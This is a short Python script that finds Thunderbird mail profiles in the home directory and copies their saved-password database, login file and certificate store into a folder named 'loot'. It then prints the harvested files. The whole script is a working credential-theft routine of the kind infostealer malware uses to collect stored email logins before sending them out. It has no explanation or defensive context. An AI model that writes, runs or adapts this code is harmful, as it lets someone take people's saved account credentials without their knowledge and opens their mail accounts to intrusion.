import glob
import os
import shutil

dest = "loot"
os.makedirs(dest, exist_ok=True)
for prof in glob.glob(os.path.expanduser("~/.thunderbird/*.default*")):
    for fname in ("key4.db", "logins.json", "cert9.db"):
        src = os.path.join(prof, fname)
        if os.path.exists(src):
            shutil.copy(src, os.path.join(dest, os.path.basename(prof) + "_" + fname))
print(os.listdir(dest))
